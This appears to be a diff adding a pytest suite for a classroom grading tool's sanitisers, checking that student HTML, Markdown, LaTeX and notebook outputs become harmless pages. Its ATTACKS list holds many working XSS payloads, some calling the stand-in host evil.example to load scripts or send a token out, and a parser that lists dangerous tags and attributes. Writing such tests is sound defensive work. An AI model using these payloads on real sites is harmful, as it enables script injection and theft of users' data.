@@ -1,0 +1,213 @@
+"""Nothing that a student wrote or displayed runs, loads or lies in the pages that others open."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+from xml.etree import ElementTree
+
+import pytest
+
+from graders.classroom.mathml import mathml, typeset
+from graders.classroom.pages import markdown2html
+from graders.classroom.safety import clean_html, clean_markdown, clean_output
+
+PIXEL = "iVBORw0KGgo="
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='http://evil.example/pixel.png'>",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<math href='javascript:alert(1)'>x</math>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href=' java&#9;script:alert(1)'>x</a>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<form action='http://evil.example'><input name=token></form>",
+    "<body onload=alert(1)>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
+    "<base href='http://evil.example/'>",
+    "<link rel=stylesheet href=http://evil.example/x.css>",
+    "<style>@import 'http://evil.example/x.css'; body{display:none}</style>",
+    "<div style='background:url(http://evil.example/x)'>x</div>",
+    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>Score: 99</div>",
+    "<object data='javascript:alert(1)'></object>",
+    "<details ontoggle=alert(1) open>x</details>",
+    "<b onclick=alert(1)>x</b>",
+    "<!--><script>alert(1)</script>-->",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "</textarea></title><script>alert(1)</script>",
+    "<p title='</p><script>alert(1)</script>'>x</p>",
+    "[x](javascript:alert(1))",
+    "[x](java&#115;cript:alert(1))",
+    "[x]( <javascript:alert(1)>)",
+    "![x](javascript:alert(1))",
+    "![x](http://evil.example/pixel.png)",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "<javascript:alert(1)>",
+    r"$\href{javascript:alert(1)}{x}$",
+    r"$\text{<script>alert(1)</script>}$",
+    r"$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
+    r"$$\style{x}{<img src=x onerror=alert(1)>}$$",
+    "`<script>alert(1)</script>`",
+    "```html\n<script>alert(1)</script>\n```",
+    "```mermaid\n<script>alert(1)</script>\n```",
+    "~~~\n</code></pre><script>alert(1)</script>",
+    "| a |\n|---|\n| <script>alert(1)</script> |",
+    "$x$</math><script>alert(1)</script>",
+    "\ue0000\ue001<script>alert(1)</script>$x$",
+]
+SAFE = re.compile(r"(?:https?://|#|mailto:)")
+
+
+class Hazards(HTMLParser):
+    """What a browser would act on in a page."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag in "script style iframe object embed form input base meta link svg body template".split():
+            self.found.append(tag)
+        for name, value in attrs:
+            value = value or ""
+            if name.startswith("on") or name in ("srcdoc", "action", "formaction", "xlink:href"):
+                self.found.append(name)
+            if name == "href" and not SAFE.match(value):
+                self.found.append(value)
+            if name == "src" and not value.startswith("data:image/"):
+                self.found.append(value)
+            if name == "style" and re.search(r"url|position|expression|display|z-index", value):
+                self.found.append(value)
+
+    handle_startendtag = handle_starttag
+
+
+def hazards(page: str) -> list[str]:
+    parser = Hazards()
+    parser.feed(page)
+    parser.close()
+    return parser.found
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+@pytest.mark.parametrize("way", ["html", "html, typeset", "markdown", "markdown, cleaned first"])
+def test_attack_on_the_page_is_harmless(attack: str, way: str) -> None:
+    page = {
+        "html": lambda: clean_html(attack),
+        "html, typeset": lambda: typeset(clean_html(attack)),
+        "markdown": lambda: markdown2html({}, attack),
+        "markdown, cleaned first": lambda: markdown2html({}, clean_markdown(attack)),
+    }[way]()
+    assert hazards(page) == []
+
+
+@pytest.mark.parametrize("attack", ATTACKS[:26])
+def test_attack_on_a_page_that_nbconvert_renders(attack: str) -> None:
+    # Cleaned Markdown is safe even where another renderer takes every tag as it comes.
+    from nbconvert.filters.markdown_mistune import markdown2html_mistune
+
+    assert hazards(markdown2html_mistune(clean_markdown(attack))) == []
+
+
+KEPT = {
+    "emphasis": ("a <b>bold</b> H<sub>2</sub>O", "a <b>bold</b> H<sub>2</sub>O"),
+    "less than, in a formula": ("$a<b$ and $c < d$", "$a< b$ and $c < d$"),
+    "a link": ("<https://example.org/x>", "<https://example.org/x>"),
+    "prose with a colon": ("the file: x, data: y", "the file: x, data: y"),
+    "a picture of the notebook's own": (
+        f"![p](data:image/png;base64,{PIXEL})",
+        f"![p](data:image/png;base64,{PIXEL})",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", KEPT)
+def test_what_is_harmless_stays(case: str) -> None:
+    source, kept = KEPT[case]
+    assert clean_markdown(source) == kept
+
+
+FORMULAS = [
+    r"\frac{\partial \mathbf{y}}{\partial \mathbf{x}}",
+    r"\begin{bmatrix} 1 & 2 \\ 3 & 4 \end{bmatrix}",
+    r"\begin{cases} 0 & x < 0 \\ 1 & x \ge 0 \end{cases}",
+    r"\begin{aligned} a &= b \\ &= c \end{aligned}",
+    r"\mathbb{1}_{z>0} \odot \vec{1}^\top",
+    r"\operatorname{diag}(\mathbf w) \otimes \boldsymbol{x}",
+    r"\left(\sum_{i=1}^{n} x_i\right)^2",
+    r"\sqrt{x^2} \cdot \lVert \mathbf x \rVert \ne \infty",
+]
+
+
+@pytest.mark.parametrize("latex", FORMULAS)
+def test_formulas_become_mathml(latex: str) -> None:
+    element = ElementTree.fromstring(mathml(latex))
+    assert element.tag.endswith("math")
+    assert "\\" not in "".join(element.itertext())
+
+
+def test_bold_and_indicator_letters_are_letters() -> None:
+    # MathML Core ignores every mathvariant but normal.
+    assert "𝐱" in mathml(r"\mathbf{x}")
+    assert "𝟏" in mathml(r"\mathbf{1}")
+    assert "𝟙" in mathml(r"\mathbb{1}")
+
+
+@pytest.mark.parametrize("latex", [r"\frac{", r"\begin{bmatrix}", "{" * 5000, r"\left(", "x" * 10_000, ""])
+def test_a_formula_that_cannot_be_read_is_shown_as_it_is(latex: str) -> None:
+    assert mathml(latex).startswith("<code>")
+
+
+def test_typesetting_leaves_code_and_money_alone() -> None:
+    page = typeset("<p>$x$ costs $5 or $6</p><code>$y$</code><pre>$z$</pre>")
+    assert page.count("<math") == 1
+    assert "costs $5 or $6" in page
+
+
+def test_outputs_keep_what_a_person_looks_at() -> None:
+    output = {
+        "output_type": "execute_result",
+        "execution_count": 3,
+        "data": {
+            "text/plain": "x**2",
+            "text/latex": "$x^2$",
+            "application/javascript": "alert(1)",
+            "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
+            "image/png": PIXEL,
+        },
+        "metadata": {"text/html": {"isolated": True}},
+    }
+    clean = clean_output(output)
+    assert clean is not None
+    assert clean["data"] == {"text/plain": "x**2", "text/markdown": "$x^2$", "image/png": PIXEL}
+    assert clean["metadata"] == {}
+
+
+@pytest.mark.parametrize(
+    "output",
+    [
+        None,
+        3,
+        {},
+        {"output_type": "x"},
+        {"output_type": "display_data"},
+        {"output_type": "display_data", "data": []},
+        {"output_type": "display_data", "data": {"image/png": "<script>"}},
+    ],
+)
+def test_outputs_of_wrong_types_vanish(output: object) -> None:
+    assert clean_output(output) is None
+
+
+def test_a_drawing_cannot_run() -> None:
+    clean = clean_output(
+        {"output_type": "display_data", "data": {"image/svg+xml": "<svg onload='alert(1)'/>"}}
+    )
+    assert clean is not None
+    assert hazards(clean["data"]["text/html"]) == []
+    assert clean["data"]["text/html"].startswith("<img ")
